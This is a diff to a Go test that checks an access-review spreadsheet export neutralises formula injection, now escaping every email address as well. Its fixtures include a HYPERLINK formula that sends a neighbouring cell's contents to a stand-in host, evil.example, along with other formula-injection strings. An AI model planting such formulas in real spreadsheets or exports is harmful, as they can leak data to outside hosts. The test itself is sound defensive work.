@@ -137,9 +137,9 @@ func TestAccessReviewEscapesControls(t *testing.T) {
 
 // TestAccessReviewDefusesFormulas: a cell a spreadsheet would evaluate
 // (a display name such as =HYPERLINK(...), chosen by its user) starts with
-// ' instead; other cells, = inside a cell, and an email that is a plain
-// address (the join key, which may start with + or -) are left as they
-// are; an email that is no address is made inert too.
+// ' instead, and so does an email, even a plain address (RFC 5322 allows
+// = + and - at its start); other cells and = inside a cell are left as
+// they are.
 func TestAccessReviewDefusesFormulas(t *testing.T) {
 	st := model.State{
 		Users: []model.User{
@@ -148,13 +148,15 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 			// An email a hostile server sends that is no address is inert too.
 			{ID: "u3", UserName: "c", Email: `=HYPERLINK("http://evil.example/?"&B2,"click")`, Active: true},
 			{ID: "u4", UserName: "d", Email: "@SUM(1+1)", Active: true},
+			{ID: "u5", UserName: "e", Email: "=1+2@example.com", Active: true},
 		},
 		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
 	}
 	rows := reviewRows(t, st)
 	want := [][]string{
 		AccessReviewHeader,
-		{"-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
+		{"'-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
+		{"'=1+2@example.com", "e", "", "true", "", "", "", ""},
 		{`'=HYPERLINK("http://evil.example/?"&B2,"click")`, "c", "", "true", "", "", "", ""},
 		{"'@SUM(1+1)", "d", "", "true", "", "", "", ""},
 		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
